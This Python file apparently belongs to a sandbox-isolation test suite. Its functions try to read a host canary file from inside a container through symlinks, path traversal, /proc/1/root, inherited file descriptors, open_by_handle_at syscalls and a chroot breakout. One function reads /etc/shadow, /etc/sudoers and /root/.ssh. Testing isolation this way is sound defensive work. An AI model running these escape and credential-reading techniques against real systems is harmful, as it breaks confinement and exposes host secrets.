"""Reading files of the host."""

import ctypes, os, stat, struct

from attempt import any_of, attempt, read, syscall


@attempt
def read_by_path(world):
    return read(world["canary"])


@attempt
def read_secrets_of_the_host(world):
    names = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh", "/root/.bashrc"]
    return any_of(*(lambda name=name: read(name) for name in names))


@attempt
def list_homes(world):
    found = [name for name in os.listdir("/home") if name != "user"]
    return f"homes: {found}" if found else None


@attempt
def read_by_symlink(world):
    os.symlink(world["canary"], "/tmp/link")
    return read("/tmp/link")


@attempt
def read_by_many_dots(world):
    return read("../" * 40 + world["canary"])


@attempt
def read_by_root_of_init(world):
    return read("/proc/1/root" + world["canary"])


@attempt
def read_by_cwd_of_init(world):
    return any_of(
        lambda: read("/proc/1/cwd" + world["canary"]),
        lambda: read("/proc/1/cwd/" + "../" * 40 + world["canary"]),
    )


@attempt
def read_by_files_of_init(world):
    names = os.listdir("/proc/1/fd")
    return f"the init has {names}" if names else None


@attempt
def read_behind_the_root(world):
    return any_of(lambda: read("/.." + world["canary"]), lambda: read("/../.." + world["canary"]))


@attempt
def use_files_left_open(world):
    for number in range(3, 1024):
        try:
            if stat.S_ISDIR(os.fstat(number).st_mode):
                os.close(os.open("canary", os.O_RDONLY, dir_fd=number))
                return f"descriptor {number} leads to the host"
        except OSError:
            pass


@attempt
def open_by_handle(world):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
    mount = ctypes.c_int()
    root = os.open("/", os.O_RDONLY)
    syscall((303, 264), root, b"", handle, ctypes.byref(mount), 0x1000)
    return f"opened {syscall((304, 265), root, handle, os.O_RDONLY)} by a handle"


@attempt
def leave_a_chroot(world):
    above = os.open("/", os.O_RDONLY)
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    os.fchdir(above)
    os.chdir("../" * 40)
    os.chroot(".")
    return read(world["canary"])


@attempt
def read_by_link_in_volume(world):
    return any_of(lambda: read("/vol/link"), lambda: read("/vol/up" + world["canary"]))


@attempt
def read_what_another_id_owns(world):
    return read("/vol/of-user-1000")


@attempt
def read_by_links_of_layers(world):
    names = ["/hole/canary", "/link", "/tmp/canary", "/proc/canary", "/dev/canary"]
    return any_of(*(lambda name=name: read(name) for name in names))
